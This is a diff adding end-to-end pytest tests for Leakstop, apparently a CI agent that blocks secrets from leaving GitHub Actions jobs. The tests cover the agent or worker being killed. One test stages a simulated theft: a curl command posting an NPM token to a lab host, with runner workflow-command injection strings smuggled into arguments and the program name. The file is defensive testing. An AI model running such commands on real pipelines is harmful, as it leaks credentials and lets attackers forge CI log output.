@@ -1,0 +1,131 @@
+# SPDX-License-Identifier: MIT
+"""The agent is killed, the worker is killed, the thief speaks to the runner."""
+
+from __future__ import annotations
+
+import os
+import signal
+import time
+from contextlib import closing
+
+import pytest
+
+from e2e.acting import ACTION, Bench, wait_for
+from lab import Lab
+from lab.network import BARE
+from lab.tokens import Token
+from leakstop.daemon.client import AgentClient
+
+pytestmark = [pytest.mark.root, pytest.mark.act]
+
+
+@pytest.mark.parametrize("mode", ["audit", "block"])
+def test_the_agent_is_killed_in_the_middle(acting: Bench, lab: Lab, mode: str) -> None:
+    begun, go = lab.directory / "begun", lab.directory / "go"
+    run = acting.start(
+        f"""
+        - uses: {ACTION}
+          with:
+            mode: {mode}
+        - id: wait
+          run: |
+            touch {begun}
+            until [ -e {go} ]; do sleep 0.05; done
+            curl -sS -m 10 https://other.test/ || true
+        """
+    )
+    wait_for(begun)
+    (directory,) = run.agents
+    with closing(AgentClient.connect(directory)) as client:
+        os.kill(client.status()["pid"], signal.SIGKILL)
+    go.touch()
+    outcome = run.wait()
+    lab.settle()
+    assert outcome.red
+    assert outcome.result("wait") == "success"
+    assert len(lab.other.connections) == (1 if mode == "audit" else 0), "block stays block"
+    (error,) = outcome.annotations("error")
+    assert error.title == "Leakstop: not protected"
+    assert "The agent ended before the job did." in error.message
+    assert outcome.record("run")[0]["exit_code"] == 12
+    assert run.agents == [], "what it left in the kernel is gone, too"
+
+
+def test_the_agent_ends_in_order_before_the_job_does(acting: Bench, lab: Lab) -> None:
+    """Whoever is root can end it; that it ended politely proves nothing about the rest."""
+    begun, go = lab.directory / "begun", lab.directory / "go"
+    run = acting.start(
+        f"""
+        - uses: {ACTION}
+        - run: |
+            touch {begun}
+            until [ -e {go} ]; do sleep 0.05; done
+        """
+    )
+    wait_for(begun)
+    (directory,) = run.agents
+    with closing(AgentClient.connect(directory)) as client:
+        client.finish()
+    go.touch()
+    outcome = run.wait()
+    assert outcome.red
+    assert [error.title for error in outcome.annotations("error")] == ["Leakstop: not protected"]
+
+
+def test_the_worker_is_killed(acting: Bench, lab: Lab) -> None:
+    """No post step will come: the agent ends by itself."""
+    begun = lab.directory / "begun"
+    run = acting.start(f"- uses: {ACTION}\n- run: touch {begun}; sleep 60\n")
+    wait_for(begun)
+    (directory,) = run.agents
+    with closing(AgentClient.connect(directory)) as client:
+        agent = client.status()["pid"]
+    run.process.kill()
+    deadline = time.monotonic() + 10
+    while os.path.exists(f"/proc/{agent}") and time.monotonic() < deadline:
+        time.sleep(0.02)
+    assert not os.path.exists(f"/proc/{agent}")
+
+
+INJECTIONS = (
+    "::error title=INJECTED::x",
+    "##[error]INJECTED",
+    "%0A::warning title=INJECTED::x",
+    "</details><h1>INJECTED",
+    "::add-mask::leakstop",
+    "::stop-commands::INJECTED",
+)
+
+
+def test_what_a_thief_writes_does_not_speak_to_the_runner(
+    acting: Bench, lab: Lab, secret: Token
+) -> None:
+    """Arguments and names end up in our log and summary; they must stay text there."""
+    arguments = " ".join(f"-A $'\\n{text}'" for text in INJECTIONS)
+    program = lab.directory / "::error title=INJECTED::"
+    program.symlink_to("/usr/bin/curl")
+    outcome = acting.run(
+        f"""
+        - uses: {ACTION}
+          with:
+            secrets: NPM_TOKEN=${{{{ secrets.NPM_TOKEN }}}}
+        - id: collect
+          shell: bash
+          run: >
+            '{program}' -g -s -m 10 {arguments} -d "${{{{ secrets.NPM_TOKEN }}}}"
+            'http://{BARE}/##[error]INJECTED' || true
+        """,
+        secrets=[secret],
+    )
+    lab.settle()
+    assert lab.collector.connections == []
+    assert outcome.red, outcome.text
+    (error,) = outcome.annotations()
+    assert error.title == "Leakstop: a secret was stopped on its way out"
+    for line in outcome.said("Post").splitlines():
+        assert not line.lstrip().startswith("::")
+        assert "##[" not in line
+    commands = {event.get("command") for event in outcome.events if event.get("stage") == "Post"}
+    assert commands <= {None, "error", "group", "endgroup", "set-output", "summary"}
+    assert "<h1>" not in outcome.summary
+    assert outcome.shows(secret) == []
